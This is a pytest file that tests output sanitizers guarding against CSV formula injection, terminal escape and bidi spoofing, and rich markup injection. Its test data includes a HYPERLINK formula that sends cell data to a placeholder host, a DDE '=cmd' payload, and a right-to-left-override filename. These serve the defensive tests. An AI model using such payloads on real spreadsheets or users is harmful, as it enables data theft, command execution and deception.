import io

import pytest
from rich.console import Console

from safeguard.output import csv_safe, terminal_safe, write_csv, write_table


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\x00x", "'\x00x"),
        ("plain", "plain"),
        (-5, -5),
        (None, ""),
        (b"\x01\x02", "0x0102"),
    ],
)
def test_csv_cells_cannot_become_formulas(value, expected):
    assert csv_safe(value) == expected


def test_terminal_output_shows_control_and_bidi_characters_as_escapes():
    assert terminal_safe("a\x1b[31mred\rb") == "a\\x1b[31mred\\rb"
    assert terminal_safe("invoice\u202efdp.exe") == "invoice\\u202efdp.exe"


def test_rich_markup_in_content_is_not_interpreted():
    buf = io.StringIO()
    write_table(Console(file=buf, width=200), ["c"], [["[bold red]x[/bold red]"]])
    assert "[bold red]x[/bold red]" in buf.getvalue()


def test_csv_is_rfc4180():
    buf = io.StringIO()
    write_csv(buf, ["a", "b"], [['say "hi"', "line\nbreak"]])
    assert buf.getvalue() == 'a,b\r\n"say ""hi""","line\nbreak"\r\n'
